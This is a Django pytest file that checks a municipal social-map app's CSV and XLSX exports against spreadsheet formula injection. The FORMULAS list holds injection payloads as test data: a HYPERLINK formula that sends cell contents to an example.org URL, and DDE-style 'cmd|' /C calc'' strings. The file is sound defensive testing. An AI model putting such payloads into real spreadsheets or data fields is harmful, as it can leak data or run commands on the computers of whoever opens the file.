"""Formula injection (issue 18, item 8): a name that starts with ``=``, ``+``, ``-`` or ``@`` (an
initiative called ``=HYPERLINK(...)``) must never become a live formula in a CSV or XLSX export.

Every export goes through ``wijkteam.exports`` (``test_nothing_else_writes_csv_or_xlsx``), and every
export that a page links to — found by reading every page of the URL map, so a new export is covered
too — is downloaded from a world whose names are formulas and checked cell by cell.
"""

import csv
import io
import logging
import re
from html.parser import HTMLParser
from urllib.parse import urljoin

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from accounts.factories import UserFactory
from accounts.models import Role
from conftest import login
from provisions.factories import ProvisionFactory
from provisions.models import Provision
from wijkteam.exports import FORMULA_START, NUMBER, neutralise, restore
from wijkteam.tests.test_url_roles import EXPECTED, ROLES, clients, parse, subjects, url_kwargs

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://example.org/?d="&A1;"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralise_and_restore():
    for text in FORMULAS:
        assert neutralise(text) == "'" + text
        assert restore(neutralise(text)) == text
    for text in ["-12", "-1.250,50", "+31", "Buurthuis", "", "'t Hoekje", "12,5", "-"]:
        assert neutralise(text) == text and restore(text) == text
    for text in ["'=1+1", "''-x"]:  # a text that only looks like an inert one comes back as it was
        assert restore(neutralise(text)) == text
    assert neutralise(12) == 12


def test_nothing_else_writes_csv_or_xlsx():
    """A CSV or XLSX made anywhere but ``wijkteam.exports`` would skip the neutralising."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|text/csv|spreadsheetml")
    found = [
        f"{path.relative_to(settings.SRC_DIR)}:{number}: {line.strip()}"
        for path in sorted(settings.SRC_DIR.rglob("*.py"))
        if "tests" not in path.parts and "migrations" not in path.parts and path.name != "exports.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line)
    ]
    assert not found, "write exports with wijkteam.exports:\n" + "\n".join(found)


class Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        href = dict(attrs).get("href") or ""
        if tag == "a" and re.search(r"export|\.csv|\.xlsx|formaat=csv", href):
            self.hrefs.append(href)


@pytest.fixture
def formula_world(world, settings, tmp_path, caplog):
    """The world of ``test_url_roles`` with formulas for names: teams, districts, an initiative, a
    provision and its phone number, a colleague."""
    settings.MEDIA_ROOT = tmp_path
    caplog.set_level(logging.CRITICAL, logger="django.request")
    s = subjects(world)
    for obj, attribute, value in [
        (world.team_a, "name", FORMULAS[2]),
        (world.area_a, "name", FORMULAS[1]),
        (s.initiative.provision, "name", FORMULAS[0]),
        (s.general, "name", FORMULAS[3]),
        (s.general, "phone", "+31 58 233 8888"),
        (world.worker, "first_name", "=1+2"),
    ]:
        setattr(obj, attribute, value)
        obj.save()
    return s


def test_every_export_keeps_formulas_inert(world, formula_world):
    kwargs, callers, table = url_kwargs(world, formula_world), clients(world, formula_world), parse(EXPECTED)
    exports: dict[str, str] = {}
    for (name, method), row in table.items():
        role = next((r for r in ROLES if r not in {"anon", "key"} and row.expected[r] == "200"), None)
        if method != "GET" or role is None or name.startswith("admin:"):
            continue
        url = reverse(name, kwargs=kwargs.get(name))
        response = callers[role].get(url)
        if response.get("Content-Type", "").startswith("text/html"):
            links = Links()
            links.feed(response.content.decode())
            for href in links.hrefs:
                exports.setdefault(urljoin(url, href), role)
    checked, seen = [], set()
    for url, role in sorted(exports.items()):
        with transaction.atomic():
            response = callers[role].get(url)
            transaction.set_rollback(True)
        assert response.status_code == 200, url
        kind = response["Content-Type"]
        if kind.startswith("text/csv"):
            cells = _csv_cells(response.content)
        elif "spreadsheetml" in kind:
            cells = _xlsx_cells(response.content, url)
        else:
            continue
        checked.append(url.split("?")[0])
        seen |= {cell for cell in cells if isinstance(cell, str)}
    names = {
        reverse("insights:management_export", args=["csv"]),
        reverse("insights:management_export", args=["xlsx"]),
        reverse("insights:district_export", args=[world.area_a.cbs_code, "csv"]),
        reverse("insights:district_export", args=[world.area_a.cbs_code, "xlsx"]),
        reverse("provisions:catalogue_csv"),
        reverse("provisions:catalogue_xlsx"),
        reverse("privacy:review"),  # its CSV report (formaat=csv)
    }
    assert names <= set(checked), names - set(checked)
    # the formulas went out, inert: in CSV with an apostrophe, in XLSX as text
    assert {"'" + FORMULAS[0], FORMULAS[0]} <= seen  # the initiative, in the management information
    assert {"'" + FORMULAS[3], FORMULAS[3], "'+31 58 233 8888"} <= seen  # the social map


def _csv_cells(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell[:1] in FORMULA_START and not NUMBER.match(cell) and cell != "-"]
    assert not live, live
    return cells


def _xlsx_cells(content: bytes, url: str) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, (url, formulas)
    return [cell.value for cell in cells]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_social_map_import_accepts_its_own_export(world, fmt):
    admin = login(UserFactory(role=Role.ADMINISTRATOR, municipality=world.municipality))
    for number, name in enumerate(FORMULAS[:4]):
        ProvisionFactory(
            municipality=world.municipality, name=name, phone="+31 58 233 8888", description=f"-{number} uur"
        )
    before = sorted(Provision.objects.values_list("name", "phone", "description"))
    export = admin.get(reverse(f"provisions:catalogue_{fmt}"))
    Provision.objects.update(phone="", description="")
    upload = SimpleUploadedFile(f"kaart.{fmt}", export.content)
    response = admin.post(reverse("provisions:catalogue"), {"file": upload})
    assert response.status_code == 302, response.context and response.context["errors"]
    assert sorted(Provision.objects.values_list("name", "phone", "description")) == before
